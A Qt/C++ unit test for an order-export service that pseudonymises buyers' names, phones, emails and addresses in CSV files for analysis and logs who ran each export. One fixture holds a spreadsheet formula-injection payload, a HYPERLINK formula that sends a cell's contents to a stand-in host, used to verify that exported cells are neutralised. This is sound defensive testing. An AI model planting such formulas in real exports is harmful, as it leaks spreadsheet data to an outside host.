// SPDX-License-Identifier: GPL-3.0-or-later
// Orders leave for analysis without names: what is masked, what is kept, what a spreadsheet makes of it, and who is told of it.
#include "models/analysis/AnalysisService.h"
#include "models/analysis/Mask.h"
#include "models/remote/Secrets.h"
#include "models/sync/Desk.h"
#include "support/SampleChanges.h"
#include "support/TempProfile.h"

#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace tsunagi;
using namespace tsunagi::test;

namespace {

class NoKeeper final : public SecretKeeper
{
public:
    Result<std::optional<QByteArray>> read(const QString &) override { return fail(Code::NotFound, u"keychain"_qs); }
    Result<> write(const QString &, const QByteArray &) override { return fail(Code::NotFound, u"keychain"_qs); }
    Result<> forget(const QString &) override { return fail(Code::NotFound, u"keychain"_qs); }
};

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// The cells of each line; the files have no line breaks inside cells.
QList<QStringList> cellsOf(const QByteArray &csv)
{
    QList<QStringList> rows;
    const QStringList lines = QString::fromUtf8(csv).remove(QChar(0xfeff)).split(u"\r\n"_qs, Qt::SkipEmptyParts);
    for (const QString &line : lines) {
        QStringList cells;
        QString cell;
        bool quoted = false;
        for (qsizetype i = 0; i < line.size(); ++i) {
            if (line[i] == u'"' && quoted && i + 1 < line.size() && line[i + 1] == u'"') {
                cell += u'"';
                ++i;
            } else if (line[i] == u'"') {
                quoted = !quoted;
            } else if (line[i] == u',' && !quoted) {
                cells << std::exchange(cell, {});
            } else {
                cell += line[i];
            }
        }
        rows << (cells << cell);
    }
    return rows;
}

} // namespace

class TestAnalysis : public QObject
{
    Q_OBJECT

private slots:
    void init()
    {
        m_profile = std::make_unique<TempProfile>();
        m_desk = std::move(*Desk::open(m_profile->path(), m_clock));
        m_desk->setPerson(u"Sato"_qs);
        m_secrets = std::make_unique<Secrets>(m_profile->path(), std::make_unique<NoKeeper>());
        Change shop;
        shop.kind = "shop.add";
        shop.roots = {named("shop", 1)};
        shop.insert("client", named("client", 1)).fields = {{"code", text("C1")}, {"name", text("one")}};
        shop.insert("shop", named("shop", 1)).fields = {{"client_id", named("client", 1)}, {"code", text("S1")}, {"carrier", text("yamato")}};
        QVERIFY(m_desk->commitOne(shop));
        Change second = orderChange(2);
        setField(second, 0, "buyer_name", text("山田　太郎")); // the same person, written otherwise
        setField(second, 0, "buyer_phone", text("+81 3-1234-5678"));
        setField(second, 0, "email", text("Taro@Example.JP"));
        setField(second, 2, "name", text("=HYPERLINK(\"http://x/?\"&A1)"));
        setField(second, 3, "sku", text("＋1"));
        for (const Change &change : {orderChange(1), second})
            QVERIFY(m_desk->commitOne(change));
    }
    void cleanup() { m_desk.reset(); }

    void nobodyIsNamed()
    {
        const auto report = service().write(path(), {}, {});
        QVERIFY2(report, report ? "" : qPrintable(report.error().where + report.error().detail));
        QCOMPARE(report->orders, 2);
        QCOMPARE(report->rows, 4);
        const QByteArray csv = readAll(path());
        QVERIFY(csv.startsWith("\xef\xbb\xbf"));
        for (const char *told : {"山田", "太郎", "花子", "ヤマダ", "0312345678", "3-1234-5678", "09012345678", "taro", "Taro", "example", "千代田", "神宮前", "1500001", "R-2024", "玄関"})
            QVERIFY2(!csv.contains(told), told);
        const auto rows = cellsOf(csv);
        QCOMPARE(rows.size(), 5);
        for (const QStringList &row : rows)
            QCOMPARE(row.size(), rows.first().size());
        const auto at = [&](int row, const char *column) { return rows[row][rows.first().indexOf(QLatin1StringView(column))]; };
        // What an analysis is made for is there.
        QCOMPARE(at(1, "client"), u"C1"_qs);
        QCOMPARE(at(1, "shop"), u"S1"_qs);
        QCOMPARE(at(1, "ordered_at"), u"2023-11-15T07:13:20+09:00"_qs);
        QCOMPARE(at(1, "buyer_zip3"), u"100"_qs);
        QCOMPARE(at(1, "recipient_zip3"), u"150"_qs);
        QCOMPARE(at(1, "recipient_prefecture"), u"東京都"_qs);
        QCOMPARE(at(1, "want_date"), u"2024-12-24"_qs);
        QCOMPARE(at(1, "carrier"), u"yamato"_qs);
        QCOMPARE(at(1, "total"), u"3600"_qs);
        QCOMPARE(at(1, "quantity"), u"2"_qs);
        QCOMPARE(at(1, "item"), u"有機栽培コーヒー豆 200g 中煎り"_qs);
        QCOMPARE(at(1, "fee"), QString()); // none in the file: not 0
        // The same person is the same, and not the other one.
        for (const char *column : {"buyer", "buyer_phone", "buyer_mail", "buyer_address"}) {
            QCOMPARE(at(1, column), at(3, column));
            QVERIFY2(at(1, column).size() == 14, column);
        }
        QVERIFY(at(1, "buyer") != at(1, "recipient"));
        QVERIFY(at(1, "order") == at(2, "order") && at(1, "order") != at(3, "order"));
        // No cell is a formula.
        QCOMPARE(at(3, "item"), u"'=HYPERLINK(\"http://x/?\"&A1)"_qs);
        QCOMPARE(at(4, "sku"), u"'＋1"_qs);
    }
    void wordsInNarrowFieldsStayHere()
    {
        Change third = orderChange(3);
        setField(third, 0, "buyer_prefecture", text("東京都千代田区千代田1-1 山田方"));
        setField(third, 1, "prefecture", text("Tokyo Yamada"));
        setField(third, 1, "want_band", text("不在時は09012345678へ"));
        QVERIFY(m_desk->commitOne(third));
        QVERIFY(service().write(path(), {}, {}));
        const QByteArray csv = readAll(path());
        for (const char *told : {"山田", "Yamada", "千代田", "不在", "09012345678"})
            QVERIFY2(!csv.contains(told), told);
        for (const QString &name : {u"東京都"_qs, u"北海道"_qs, u"神奈川県"_qs, u"京都府"_qs})
            QCOMPARE(Mask::prefecture(name), name);
        QCOMPARE(Mask::prefecture(u"とう都"_qs), QString());
        QCOMPARE(Mask::prefecture({}), QString());
        QCOMPARE(Mask::band(u"1416"_qs), u"1416"_qs);
        QCOMPARE(Mask::band({}), QString());
        QCOMPARE(Mask::band(u"夕方"_qs), u"other"_qs);
    }
    void aKeyMakesExportsAlike()
    {
        QVERIFY(service().write(path(), {}, {}));
        const QByteArray once = readAll(path());
        QVERIFY(service().write(path(), {}, {}));
        QVERIFY(readAll(path()) != once); // nobody can join them
        QVERIFY(service().write(path(), {}, u"季節"_qs));
        const QByteArray named = readAll(path());
        QVERIFY(service().write(path(), {}, u"季節"_qs));
        QCOMPARE(readAll(path()), named);
        QVERIFY(service().write(path(), {}, u"other"_qs));
        QVERIFY(readAll(path()) != named);
    }
    void aKeyOutOfReachIsNotReplaced()
    {
        QVERIFY(service().write(path(), {}, u"k"_qs));
        QVERIFY(QFile::rename(m_secrets->filePath(), m_profile->file(u"away"_qs)));
        QCOMPARE(service().write(path(), {}, u"k"_qs).error().code, Code::NotFound);
        QVERIFY(!QFile::exists(m_secrets->filePath()));
        QVERIFY(service().write(path(), {}, u"k2"_qs));
        QVERIFY(QFile::remove(m_secrets->filePath()) && QFile::rename(m_profile->file(u"away"_qs), m_secrets->filePath()));
        QVERIFY(service().write(path(), {}, u"k"_qs));
    }
    void onlyWhatWasAskedFor()
    {
        QCOMPARE(service().write(path(), {u"C9"_qs, {}, {}}).error().code, Code::NotFound);
        QVERIFY(!QFile::exists(path()));
        QCOMPARE(service().write(path(), {u"C1"_qs, QDate(2023, 11, 15), QDate(2023, 11, 15)})->orders, 2);
        QCOMPARE(service().write(path(), {u"C1"_qs, QDate(2023, 11, 16), {}})->orders, 0);
        QCOMPARE(service().write(path(), {{}, {}, QDate(2023, 11, 14)})->orders, 0);
        QCOMPARE(cellsOf(readAll(path())).size(), 1);
    }
    void whoDidItIsTold()
    {
        QVERIFY(service().write(path(), {u"C1"_qs, QDate(2023, 1, 1), {}}, u"k"_qs));
        QVERIFY(!service().write(m_profile->file(u"no/such/folder.csv"_qs), {}));
        QVERIFY(m_desk->sync());
        const auto exports = service().exports();
        QVERIFY(exports);
        QCOMPARE(exports->size(), 1); // no file, no line
        QCOMPARE(exports->first().person, u"Sato"_qs);
        QCOMPARE(exports->first().desk, m_desk->name());
        const QJsonObject values = QJsonDocument::fromJson(exports->first().values).object();
        QCOMPARE(values.value(u"orders").toInt(), 2);
        QCOMPARE(values.value(u"client").toString(), u"C1"_qs);
        QCOMPARE(values.value(u"from").toString(), u"2023-01-01"_qs);
        QCOMPARE(values.value(u"file").toString(), u"out.csv"_qs);
        QCOMPARE(*m_desk->pendingCount(), 0);
    }
    void masksAreBlindToWriting()
    {
        const Mask mask(QByteArray(32, 'k'));
        QCOMPARE(mask.person(u"ﾔﾏﾀﾞ ﾀﾛｳ"_qs), mask.person(u"ヤマダタロウ"_qs));
        QVERIFY(mask.person(u"山田太郎"_qs) != mask.person(u"山田次郎"_qs));
        QCOMPARE(mask.phone(u"０３−１２３４−５６７８"_qs), mask.phone(u"0312345678"_qs));
        QCOMPARE(mask.address(u"1000001"_qs, u"千代田区千代田１丁目１"_qs, {}), mask.address(u"100-0001"_qs, u"千代田区千代田1丁目1"_qs, {}));
        QCOMPARE(mask.person({}), QString());
        QCOMPARE(mask.address(u"1000001"_qs, {}, {}), QString());
        QVERIFY(mask.person(u"a"_qs) != Mask(QByteArray(32, 'l')).person(u"a"_qs));
        QVERIFY(mask.person(u"0312345678"_qs).mid(2) != mask.phone(u"0312345678"_qs).mid(2)); // a name is no phone
        QCOMPARE(Mask::zipStart(u"〒150-0001"_qs), u"150"_qs);
        QCOMPARE(Mask::zipStart(u"15000"_qs), QString());
        QCOMPARE(Mask::cell(u"-1+2"_qs), u"\"'-1+2\""_qs);
        QCOMPARE(Mask::cell(u"a=b"_qs), u"\"a=b\""_qs);
        QCOMPARE(Mask::cell(u"say \"x\""_qs), u"\"say \"\"x\"\"\""_qs);
    }

private:
    static void setField(Change &change, int insert, const char *field, const Value &value)
    {
        for (auto &[name, held] : change.inserts[insert].fields) {
            if (name == field)
                held = value;
        }
    }
    AnalysisService service() { return {*m_desk, *m_secrets}; }
    QString path() const { return m_profile->file(u"out.csv"_qs); }
    FixedClock m_clock {1700000000000000};
    std::unique_ptr<TempProfile> m_profile;
    std::unique_ptr<Secrets> m_secrets;
    std::unique_ptr<Desk> m_desk;
};

QTEST_GUILESS_MAIN(TestAnalysis)
#include "tst_analysis.moc"
